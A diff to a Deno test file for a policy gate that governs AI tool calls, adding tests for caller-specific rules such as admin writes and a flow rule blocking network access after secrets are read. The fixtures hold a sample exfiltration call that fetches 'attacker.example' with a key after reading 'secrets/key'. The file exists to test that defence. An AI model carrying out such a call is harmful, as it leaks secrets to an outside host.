@@ -327,7 +327,8 @@ Deno.test("gate test decides each case by its server's view of the policy", asyn
         ],
         [
           "cases:\n  - server: web\n    tool: fetch\n    before:\n      - { tool: read_text_file }\n    expect: allow\n",
-          ":4:5: cases[0].before[0]: missing server: the policy names servers (files, notes, web)",
+          // Where its server would go: beside its tool.
+          ":5:11: cases[0].before[0]: missing server: the policy names servers (files, notes, web)",
         ],
       ];
       for (const [text, message] of wrong) {
@@ -346,4 +347,103 @@ Deno.test("gate test decides each case by its server's view of the policy", asyn
       }
     },
   );
+});
+
+// Rules by caller: a principal's allow and a principal's flow.
+const PRINCIPALS_POLICY = (root: string) =>
+  `roots: ["${root}"]
+presets: [filesystem]
+tools:
+  fetch: { patterns: ["net:{url}"] }
+allow: ["read:**", "net:**"]
+unprobed: deny
+principals:
+  - match: { groups: [admins] }
+    allow: ["write:**"]
+  - match: { claim: { team: [contractors] } }
+    flows:
+      - after: ["read:secrets/**"]
+        deny: ["net:**"]
+`;
+
+const PRINCIPAL_CASES = `cases:
+  - name: a contractor cannot send a secret out
+    claims: { sub: carol, team: contractors }
+    before:
+      - { tool: read_text_file, arguments: { path: secrets/key } }
+    tool: fetch
+    arguments: { url: "https://attacker.example/?k=1" }
+    expect: deny
+  - name: another caller can
+    claims: { sub: dave, team: staff }
+    before:
+      - { tool: read_text_file, arguments: { path: secrets/key } }
+    tool: fetch
+    arguments: { url: "https://attacker.example/?k=1" }
+    expect: allow
+  - name: an admin writes
+    claims: { sub: erin, groups: [admins], scope: "files:read files:write" }
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: allow
+  - name: without a token, nobody's principals
+    tool: write_file
+    arguments: { path: notes/a.md, content: x }
+    expect: ask
+`;
+
+Deno.test("gate test decides a case with claims by the caller's principals and their flows", async (t) => {
+  await using ws = await workspace();
+  await Deno.writeTextFile(ws.policy, PRINCIPALS_POLICY(ws.root));
+  await t.step("every case holds", async () => {
+    await Deno.writeTextFile(ws.cases, PRINCIPAL_CASES);
+    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+    assert.equal(run.stderr, "");
+    assert.equal(run.stdout, `${ws.cases}: 4 cases hold\n`);
+    assert.equal(run.code, 0);
+  });
+  await t.step("a miss names the principal's flow", async () => {
+    await Deno.writeTextFile(
+      ws.cases,
+      PRINCIPAL_CASES.replace(
+        '?k=1" }\n    expect: deny',
+        '?k=1" }\n    expect: allow',
+      ),
+    );
+    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+    assert.equal(run.code, 1);
+    assert.equal(
+      run.stdout,
+      [
+        `${ws.cases}:8:5: cases[0] (a contractor cannot send a secret out): expected allow, got deny by principals[1].flows[0] (net:**), set off by read:secrets/key of read_text_file`,
+        `${ws.cases}: 1 of 4 cases missed`,
+        "",
+      ].join("\n"),
+    );
+  });
+  await t.step("wrong claims are refused (exit 2)", async (t) => {
+    const wrong: [string, string][] = [
+      [
+        "cases:\n  - tool: f\n    claims: alice\n    expect: allow\n",
+        ":3:5: cases[0].claims: expected the caller's token claims ({ sub: alice, groups: [admins] }), got string",
+      ],
+      [
+        "cases:\n  - tool: f\n    claims: { groups: [1] }\n    expect: allow\n",
+        ":3:5: cases[0].claims.groups: expected a group or a list of groups, got an array",
+      ],
+    ];
+    for (const [text, message] of wrong) {
+      await t.step(message, async () => {
+        await Deno.writeTextFile(ws.cases, text);
+        const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
+        assert.equal(run.code, 2);
+        assert.ok(
+          run.stderr.startsWith(
+            `forge gate: Cannot read the cases: ${ws.cases}${message}`,
+          ),
+          run.stderr,
+        );
+      });
+    }
+  });
 });
